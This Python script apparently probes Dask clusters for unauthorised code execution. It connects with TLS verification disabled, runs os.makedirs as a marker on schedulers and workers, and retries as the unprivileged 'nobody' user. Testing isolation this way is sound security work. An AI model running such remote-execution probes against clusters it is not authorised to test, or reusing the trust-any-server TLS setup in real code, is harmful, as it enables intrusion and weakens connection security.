"""Program that tries to run code in clusters of others: FOLDER ADDRESS[=CERTIFICATE]...

If it succeeds it creates the folders FOLDER/WAY-USER-scheduler and FOLDER/WAY-USER-worker; WAY is
the number of the address, from 0. It tries first as the user who starts it, then, if that is root,
as a user who owns nothing. With an address `tls://...` it presents the certificate and trusts any
server.
"""

from __future__ import annotations

import os
import ssl
import sys
from typing import Any

from distributed import Client, Security

NOBODY = 65534
PATIENCE_S = 120


class Careless(Security):
    """TLS that trusts any server; the certificate is read at once, while that is allowed."""

    __slots__ = ("context",)

    def __init__(self, *certificate: str) -> None:
        super().__init__()
        self.context = ssl.create_default_context()
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        if certificate:
            self.context.load_cert_chain(*certificate)

    def get_connection_args(self, role: str) -> dict[str, Any]:
        del role
        return {"ssl_context": self.context, "require_encryption": False, "extra_conn_args": {}}


def attack(address: str, security: Security, path: str) -> None:
    with Client(address, timeout=PATIENCE_S, set_as_default=False, security=security) as client:
        client.run_on_scheduler(os.makedirs, f"{path}-scheduler")
        client.run(os.makedirs, f"{path}-worker", exist_ok=True)


def main(folder: str, *ways: str) -> None:
    parts = [way.split("=") for way in ways]
    doors = [(address, Careless(*certificate)) for address, *certificate in parts]
    for user in [os.getuid()] + [NOBODY] * (os.getuid() == 0):
        if user != os.getuid():  # all modules are imported by now, some from folders of root
            os.setgroups([])
            os.setgid(user)
            os.setuid(user)
        for way, (address, security) in enumerate(doors):
            try:
                attack(address, security, f"{folder}/{way}-{user}")
                print(way, user, "came in")
            except Exception as error:
                print(way, user, "was refused:", type(error).__name__, error)


if __name__ == "__main__":
    main(*sys.argv[1:])
    sys.stdout.flush()
    os._exit(0)  # Dask lingers after a failure
